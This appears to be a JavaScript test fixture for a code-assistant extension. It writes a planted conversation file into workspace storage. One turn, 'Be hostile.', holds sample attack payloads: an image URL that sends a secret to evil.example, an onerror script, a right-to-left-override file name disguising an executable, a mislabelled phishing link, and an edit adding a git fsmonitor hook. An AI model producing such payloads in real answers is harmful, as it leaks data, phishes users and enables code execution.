import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';

/** Where the window keeps the conversations of its workspace: there is one workspace alone in a host. */
export function conversationsFolder(host) {
  const storage = path.join(host.folder, 'ud', 'User', 'workspaceStorage');
  const [workspace] = readdirSync(storage, { withFileTypes: true })
    .filter((entry) => entry.isDirectory())
    .map(({ name }) => path.join(storage, name, 'fasa-code.fasa-code'))
    .filter((folder) => readdirSync(path.dirname(folder)).includes('fasa-code.fasa-code'));
  if (!workspace) throw new Error(`There is no storage of the extension below ${storage}.`);
  return path.join(workspace, 'conversations');
}

export const plantedTitle = 'Planted answers';

/**
 * A conversation with answers that a small model would not give on demand: code, changes of a file, a citation, and the
 * tricks of a hostile answer.
 */
export function plantConversation(host, folder) {
  const target = conversationsFolder(host);
  mkdirSync(target, { recursive: true });
  const turn = (id, question, answer, citations = []) => ({
    id,
    question,
    chips: [],
    answer,
    state: 'done',
    citations,
  });
  const change = (search, replace) => `<<<<<<< SEARCH\n${search}\n=======\n${replace}\n>>>>>>> REPLACE`;
  const changes = [
    change("var etag = require('etag');", "var etag = require('etag'); // first change"),
    change("var qs = require('qs');", "var qs = require('qs'); // second change"),
  ].join('\n');
  const turns = [
    turn(
      'p1',
      'Show me a function.',
      'Here is one:\n\n```js\nfunction planted() {\n  return 42;\n}\n```\n\nIt returns 42.',
    ),
    turn('p2', 'Change the imports.', `<think>\nTwo lines.\n</think>\nlib/utils.js\n\`\`\`js\n${changes}\n\`\`\``, [
      {
        uri: pathToFileURL(path.join(folder, 'lib', 'view.js')).href,
        path: 'lib/view.js',
        firstLine: 30,
        lastLine: 40,
        share: 0.31,
      },
    ]),
    turn(
      'p3',
      'Be hostile.',
      '![x](https://evil.example/p.png?q=SECRET) <img src=x onerror="top.owned=1"> Run `gpj.\u202ecod.exe`, see [https://good.example](https://evil.example/login).\n\n```sh\n.git/config\n<<<<<<< SEARCH\n[core]\n=======\n[core]\n\tfsmonitor = evil\n>>>>>>> REPLACE\n```',
    ),
  ];
  const conversation = {
    version: 1,
    id: 'planted',
    title: plantedTitle,
    created: '2026-01-01T00:00:00.000Z',
    changed: '2026-01-01T00:00:00.000Z',
    turns,
    asked: [],
  };
  writeFileSync(path.join(target, 'planted.json'), JSON.stringify(conversation));
}
